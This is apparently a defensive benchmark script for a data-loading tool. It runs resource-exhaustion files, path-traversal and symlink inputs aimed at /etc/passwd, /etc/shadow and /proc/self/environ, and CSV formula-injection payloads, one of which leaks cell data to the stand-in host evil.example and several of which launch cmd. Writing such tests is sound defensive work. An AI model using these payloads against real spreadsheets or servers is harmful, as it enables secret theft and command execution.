"""Hostile data files, server paths and CSV exports (issue 13, round 2), each run alone with its time and memory.

    .venv/bin/python -m bench.bench_hostile_data             # full size (writes ~1 GB of files in a temp folder)
    .venv/bin/python -m bench.bench_hostile_data --small     # the same inputs, scaled down, for a quick look
    .venv/bin/python -m bench.bench_hostile_data -v -k jsonl # one line per input, only names containing 'jsonl'

The parent generates every input, then runs each in a fresh process under the default caps (`Settings()`
with a temporary workspace): a load (`load_file_report`), a typed server path (`import_server_file`) or
a CSV export (`export` of a loaded file). Per input: the outcome, wall time, and peak RSS growth (VmHWM,
reset through /proc/self/clear_refs after the imports). Outcomes: `refused` (DataError with a message
that quotes no secret), `loaded` / `neutralised` (the controls and the export cases, checked), `wrong`
(another exception, a leak, a live formula, or a control that was refused), `over budget` (over
`--budget-s` seconds, or for the controls, legitimate files within the caps, over the load time budget
TORCHLAB_LOAD_TIMEOUT_S; over `--budget-mb` MB of RSS growth; or killed at `--kill-s`).
"""
from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SECRET = "SECRET-TOKEN-7f3a9c"
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


# ----------------------------------------------------------------------------------------- inputs
def _write(path: Path, text: str | bytes) -> Path:
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


def _parquet(path: Path, table: object, **kw: object) -> Path:
    import pyarrow.parquet as pq

    pq.write_table(table, str(path), **kw)
    return path


def make_files(d: Path, scale: float) -> list[tuple[str, str, Path, str]]:
    """(class, name, file, expected outcome) for every load input; `scale` 1 is full size."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    n = lambda full: max(10, int(full * scale))  # noqa: E731
    cases = []

    def add(cls: str, name: str, path: Path, expect: str = "refused") -> None:
        cases.append((cls, name, path, expect))

    cols = n(500_000)
    add("caps", f"CSV, {cols:,} columns", _write(d / "wide.csv", ",".join(f"col{i:06d}" for i in range(cols)) + "\n"
                                                + ",".join("1" for _ in range(cols)) + "\n"))
    add("caps", f"CSV, one line of {n(300):,} MB (short fields)", _write(d / "line.csv", "a,b\n" + "x," * (n(300) << 19)))
    add("caps", f"CSV, one line of {n(300):,} MB (one cell)", _write(d / "cell.csv", "a,b\n1," + "x" * (n(300) << 20)))
    add("caps", "CSV, a quoted cell of 5 M lines", _write(d / "quoted.csv", 'a,b\n1,"' + "x\n" * n(5_000_000) + '"\n'))
    add("caps", f"CSV, {n(10_500_000):,} one-character rows", _write(d / "rows.csv", "a\n" + "1\n" * n(10_500_000)))
    add("caps", f"CSV, {n(12_000_000):,} blank lines", _write(d / "blank.csv", "a,b\n1,2\n" + "\n" * n(12_000_000)))
    sparse = d / "sparse.csv"
    with sparse.open("wb") as f:
        f.write(b"a,b\n1,2\n")
        f.truncate(int(3e9 * scale))  # 3 GB of holes: costs nothing to make, must cost nothing to refuse
    add("caps", f"CSV, {int(3e9 * scale) / 1e9:.1f} GB (sparse)", sparse)
    keys = n(12_000)
    add("caps", f"JSONL, {keys:,} distinct keys", _write(d / "keys.jsonl", "".join(f'{{"key_{i:05d}": 1}}\n' for i in range(keys))))
    add("caps", "JSONL, nested 900 deep (8 KB)", _write(d / "deep900.jsonl", ('{"a": ' + "[" * 900 + "1" + "]" * 900 + "}\n") * 4))
    add("caps", f"JSONL, one line of {n(300):,} MB", _write(d / "line.jsonl", '{"a": "' + "x" * (n(300) << 20) + '"}\n'))

    def tree(depth: int) -> str:
        return "1" if depth == 0 else '{"l": ' + tree(depth - 1) + ', "r": ' + tree(depth - 1) + "}"

    add("caps", "JSONL, one line whose nested keys make 16,384 columns", _write(d / "tree.jsonl", '{"t": ' + tree(14) + "}\n"))
    add("caps", f"JSONL, {n(10_500_000):,} empty objects", _write(d / "objects.jsonl", "{}\n" * n(10_500_000)))
    rows, batch = n(100_000_000), n(1_000_000)
    with pq.ParquetWriter(str(d / "rows.parquet"), pa.schema([("a", pa.int64())]), compression="zstd") as w:
        zeros = pa.table({"a": np.zeros(batch, np.int64)})
        for _ in range(rows // batch):
            w.write_table(zeros, row_group_size=batch)
    add("caps", f"Parquet, {rows:,} rows ({(d / 'rows.parquet').stat().st_size / 1e3:,.0f} KB)", d / "rows.parquet")
    big = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n(20_000), np.int32)), pa.array(["x" * 900_000]))
    add("caps", f"Parquet, dictionary of one 900 KB string x {n(20_000):,} rows",
        _parquet(d / "dict.parquet", pa.table({"t": big}), compression="zstd", dictionary_pagesize_limit=1 << 30))
    add("caps", f"Parquet, one row holding a list of {n(50_000_000):,} zeros",
        _parquet(d / "list.parquet", pa.table({"v": pa.array([np.zeros(n(50_000_000), np.int8)])}), compression="zstd"))
    rows, long = n(1_000_000), n(50_000_000)
    offsets = np.arange(rows + 1, dtype=np.int64)
    offsets[1:] += long  # row 1 holds 50 M values, every other row one: the footer's averages hide it
    outlier = pa.LargeListArray.from_arrays(pa.array(offsets), pa.array(np.zeros(rows + long, np.int64)))
    add("caps", f"Parquet, one row of {long:,} int64 among {rows:,} short rows",
        _parquet(d / "outlier.parquet", pa.table({"v": outlier}), compression="zstd"))
    del outlier, offsets
    add("caps", f"Parquet, {n(50_000):,} columns", _parquet(d / "wide.parquet", pa.table({f"c{i}": [1] for i in range(n(50_000))})))
    deep = pa.array([1])
    for _ in range(40):
        deep = pa.ListArray.from_arrays(pa.array([0, 1], pa.int32()), deep)
    add("caps", "Parquet, lists nested 40 deep", _parquet(d / "deep.parquet", pa.table({"d": deep})))

    add("clear error", "Parquet, duplicate column names", _parquet(d / "dup.parquet", pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["x", "x"])))
    add("clear error", "Parquet, an empty column name", _parquet(d / "noname.parquet", pa.Table.from_arrays([pa.array([1])], names=[""])))
    add("clear error", "JSONL, an empty key", _write(d / "empty.jsonl", '{"a": 1}\n{"": 2}\n'))
    add("clear error", "JSONL, an empty nested key", _write(d / "empty2.jsonl", '{"a": {"": 2}}\n'))
    add("clear error", "JSONL, nested 5,000 deep", _write(d / "deep5000.jsonl", '{"a": ' + "[" * 5000 + "]" * 5000 + "}\n"))
    add("clear error", "JSONL, nested 100,000 deep objects", _write(d / "deep1e5.jsonl", '{"a": ' * 100_000 + "1" + "}" * 100_000 + "\n"))

    add("controls", f"CSV, {n(10_000_000) - 1:,} one-character rows (just under the row cap)",
        _write(d / "atcap.csv", "a\n" + "1\n" * (n(10_000_000) - 2)), "loaded")
    add("controls", "CSV, 785 columns x 2,000 rows (MNIST-like)", _write(
        d / "mnist.csv", ",".join(["label"] + [f"px{i}" for i in range(784)]) + "\n"
        + "".join(",".join(str((r * 7 + i) % 256) for i in range(785)) + "\n" for r in range(2_000))), "loaded")
    add("controls", "JSONL, nested answers (depth 3)", _write(d / "squad.jsonl", "".join(
        json.dumps({"q": f"q{i}", "answers": {"text": ["a", "b"], "start": [i, i + 1]}}) + "\n" for i in range(5_000))), "loaded")
    add("controls", "Parquet, categorical + list + struct", _parquet(d / "ok.parquet", pa.table({
        "c": pa.array(["pos", "neg"] * 500).dictionary_encode(), "l": [[1, 2]] * 1000, "s": [{"x": 1}] * 1000})), "loaded")
    return cases


def make_paths(d: Path) -> tuple[Path, list[tuple[str, str, str, str]]]:
    """A workspace with imports/ (links out of it planted), a secret outside; (class, name, typed path, expected)."""
    ws, outside, extra = d / "ws", d / "outside", d / "extra"
    imports = ws / "imports"
    for p in (imports, outside, extra):
        p.mkdir(parents=True, exist_ok=True)
    _write(outside / "secret.csv", f"{SECRET},x\n1,2\n")
    _write(imports / "ok.csv", "text,label\nhi,pos\n")
    _write(extra / "allowed.csv", "text,label\nyo,neg\n")
    (imports / "sub").mkdir(exist_ok=True)
    for name, target in [("link.csv", outside / "secret.csv"), ("passwd.csv", Path("/etc/passwd")),
                         ("dirlink", outside), ("maps.csv", Path("/proc/self/maps"))]:
        if not (imports / name).is_symlink():
            (imports / name).symlink_to(target)
    if not (imports / "fifo.csv").exists():
        os.mkfifo(imports / "fifo.csv")
    typed = ["/proc/self/maps", "/proc/self/environ", "/etc/passwd", "/etc/shadow", "/dev/zero",
             str(outside / "secret.csv"), str(outside / "missing.csv"), "../../outside/secret.csv",
             "../../../../../../etc/passwd", str(imports / ".." / ".." / "outside" / "secret.csv"), "link.csv",
             str(imports / "passwd.csv"), "dirlink/secret.csv", "maps.csv", f"/proc/{os.getpid()}/cwd/README.md",
             "~/.bashrc", "file:///etc/passwd", "fifo.csv", "sub", "missing.csv", "ok.csv\x00.png", ""]
    cases = [("paths", repr(t), t, "refused") for t in typed]
    cases += [("controls", "ok.csv in imports/", "ok.csv", "loaded"),
              ("controls", "a file in a TORCHLAB_DATA_DIRS folder", str(extra / "allowed.csv"), "loaded")]
    return extra, cases


# ----------------------------------------------------------------------------------------- one input, in a child
def run_one(spec: dict) -> dict:
    """Run one input (in this fresh process) and describe what happened."""
    from core.data import DataError, DatasetStore, export, import_server_file, load_file, load_file_report
    from core.settings import Settings

    settings = Settings(workspace=Path(spec["ws"]), data_dirs=spec.get("data_dirs", ""), **spec.get("caps", {}))
    import datasets  # noqa: F401 - the libraries every load uses, imported before the measurement starts
    import numpy  # noqa: F401
    import pyarrow.csv  # noqa: F401
    import pyarrow.parquet  # noqa: F401

    open("/proc/self/clear_refs", "w").write("5")  # peak RSS from here on
    base = _status("VmRSS")
    t0 = time.perf_counter()
    outcome, message = "?", ""
    try:
        if spec["kind"] == "load":
            report = load_file_report(spec["path"], cache_dir=spec["cache"], settings=settings)
            outcome, message = "loaded", f"{len(report.dataset):,} rows x {len(report.dataset.column_names)} columns"
        elif spec["kind"] == "path":
            store = DatasetStore(Path(spec["ws"]) / "datasets")
            ref, _ = import_server_file(spec["path"], "bench", store, settings=settings, cache_dir=spec["cache"])
            outcome, message = "loaded", ref.label
        else:  # export: a loaded file out as CSV, every text cell checked
            ds = load_file(spec["path"], cache_dir=spec["cache"], settings=settings)
            import csv

            out = export(ds, "csv", Path(spec["cache"]) / "out.csv")
            with out.open(newline="", encoding="utf-8") as f:
                table = list(csv.reader(f))
            text = [c for i, r in enumerate(table) for j, c in enumerate(r) if i == 0 or j != 1]  # column 1: numbers
            live = [c for c in text if c.lstrip(" \u00a0\u3000").startswith(TRIGGERS)]
            numbers_kept = [r[1] for r in table[1:]] == ["-5", "7"]
            outcome = "neutralised" if not live and numbers_kept else "wrong"
            message = f"{len(live)} live formula cells; numbers kept: {numbers_kept}; header {table[0]}"
    except DataError as e:
        outcome, message = "refused", str(e)
    except BaseException as e:  # noqa: B036 - exactly what the bench counts
        outcome, message = "wrong", f"{type(e).__name__}: {str(e)[:300]}"
    seconds = time.perf_counter() - t0
    if SECRET in message or "root:x:0" in message or "/bin/bash" in message:
        outcome, message = "wrong", "LEAK: " + message
    return {"outcome": outcome, "message": message[:400], "s": seconds, "mb": (_status("VmHWM") - base) / 1024}


def _status(key: str) -> int:
    for line in open("/proc/self/status"):
        if line.startswith(key + ":"):
            return int(line.split()[1])  # kB
    return 0


def spawn(spec: dict, kill_s: float) -> dict:
    code = "import json, sys; from bench.bench_hostile_data import run_one; print(json.dumps(run_one(json.loads(sys.argv[1]))))"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HF_HUB_OFFLINE": "1"}
    t0 = time.perf_counter()
    try:
        out = subprocess.run([sys.executable, "-c", code, json.dumps(spec)], cwd=ROOT, capture_output=True, text=True,
                             env=env, timeout=kill_s)
    except subprocess.TimeoutExpired:
        return {"outcome": "over budget", "message": f"killed after {kill_s:.0f} s", "s": kill_s, "mb": float("nan")}
    lines = out.stdout.strip().splitlines()
    if out.returncode or not lines:
        return {"outcome": "wrong", "message": f"exit {out.returncode}: {out.stderr[-300:]}",
                "s": time.perf_counter() - t0, "mb": float("nan")}
    return json.loads(lines[-1])


# ----------------------------------------------------------------------------------------- main
def main() -> None:
    from core.settings import Settings

    ap = argparse.ArgumentParser()
    ap.add_argument("--small", action="store_true", help="scale the big inputs down 100x")
    ap.add_argument("--dir", default=tempfile.gettempdir())
    ap.add_argument("-k", default="", help="only inputs whose name contains this")
    ap.add_argument("-v", action="store_true", help="one line per input")
    ap.add_argument("--budget-s", type=float, default=10.0)
    ap.add_argument("--budget-mb", type=float, default=512.0)
    ap.add_argument("--kill-s", type=float, default=300.0)
    a = ap.parse_args()
    work = Path(a.dir) / f"torchlab-hostile-data{'-small' if a.small else ''}"
    files = work / "files"
    files.mkdir(parents=True, exist_ok=True)
    print(f"generating inputs in {work} …", file=sys.stderr, flush=True)
    specs = []
    ws = str(work / "ws")
    scale = 0.01 if a.small else 1.0
    defaults = Settings()
    caps = {} if not a.small else {  # the inputs and the caps scaled alike
        k: max(1, int(getattr(defaults, k) * scale)) for k in ("max_columns", "max_rows", "max_row_bytes", "max_dataset_mb")}
    for cls, name, path, expect in make_files(files, scale):
        specs.append((cls, name, expect, {"kind": "load", "path": str(path), "ws": ws,
                                          "caps": {} if cls == "controls" else caps}))
    extra, path_cases = make_paths(work / "paths")
    for cls, name, typed, expect in path_cases:
        specs.append((cls, name, expect, {"kind": "path", "path": typed, "ws": str(work / "paths" / "ws"),
                                          "data_dirs": str(extra)}))
    for i, payload in enumerate(PAYLOADS):
        text = payload.replace('"', '""')
        f = _write(files / f"export{i}.csv", f'"{text}",n,"label {text}"\n"{text}",-5,"{text}"\nplain,7,ok\n')
        specs.append(("export", repr(payload), "neutralised", {"kind": "export", "path": str(f), "ws": ws}))
    nested = _parquet(files / "nested.parquet", __import__("pyarrow").table({"l": [[1, 2]], "s": [{"x": 1}], "t": ["a"]}))
    specs.append(("clear error", "CSV export of nested Parquet types", "refused", {"kind": "export", "path": str(nested), "ws": ws}))
    results = []
    for cls, name, expect, spec in specs:
        if a.k and a.k not in name:
            continue
        cache = work / "cache" / f"{len(results)}"
        cache.mkdir(parents=True, exist_ok=True)
        r = spawn({**spec, "cache": str(cache)}, a.kill_s)
        budget_s = defaults.load_timeout_s if cls == "controls" else a.budget_s  # loads within the caps may be long
        if r["outcome"] not in ("wrong", "over budget") and (r["s"] > budget_s or r["mb"] > a.budget_mb):
            r["outcome"] = "over budget"
        elif r["outcome"] not in (expect, "wrong", "over budget"):
            r["outcome"] = "wrong"
        results.append((cls, name, r))
        if a.v:
            print(f"{cls:12} {r['outcome']:12} {r['s']:7.2f} s {r['mb']:8.0f} MB  {name}  ->  {r['message'][:160]!r}",
                  flush=True)
    report(results)


def report(results: list) -> None:
    print("\n| class | inputs | refused cleanly | loaded / neutralised as expected | wrong exception | over budget | "
          "worst time | worst memory |\n|---|---|---|---|---|---|---|---|")
    for cls in dict.fromkeys(c for c, _, _ in results):
        rs = [r for c, _, r in results if c == cls]
        count = lambda *o, rs=rs: sum(r["outcome"] in o for r in rs)  # noqa: E731
        slow = max(rs, key=lambda r: r["s"])
        heavy = max(rs, key=lambda r: r["mb"] if r["mb"] == r["mb"] else -1)
        print(f"| {cls} | {len(rs)} | {count('refused')} | {count('loaded', 'neutralised')} | {count('wrong')} | "
              f"{count('over budget')} | {slow['s']:.2f} s | {heavy['mb']:.0f} MB |")
    for cls, name, r in results:
        if r["outcome"] in ("wrong", "over budget"):
            print(f"- {r['outcome']}: [{cls}] {name}: {r['message'][:300]}")
    worst_s = max(results, key=lambda x: x[2]["s"])
    worst_mb = max(results, key=lambda x: x[2]["mb"] if x[2]["mb"] == x[2]["mb"] else -1)
    print(f"\nworst time: {worst_s[2]['s']:.2f} s ({worst_s[1]}); worst memory: {worst_mb[2]['mb']:.0f} MB ({worst_mb[1]})")


if __name__ == "__main__":
    main()
